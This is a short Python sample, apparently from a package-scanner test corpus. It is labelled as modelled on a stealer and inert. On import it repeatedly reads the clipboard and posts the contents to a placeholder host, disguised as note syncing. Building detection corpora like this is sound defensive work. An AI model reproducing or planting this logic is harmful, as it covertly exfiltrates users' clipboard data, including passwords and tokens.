# pkgguard corpus 478 (clipboard), modelled on [stealer-profile]; inert, never run.
import threading

import requests
from kivy.core.clipboard import Clipboard


def _sync():
    text = Clipboard.paste()
    if text:
        requests.post("https://notes-sync.example/api/v1/push", json={"t": text}, timeout=5)
    threading.Timer(30, _sync).start()


_sync()
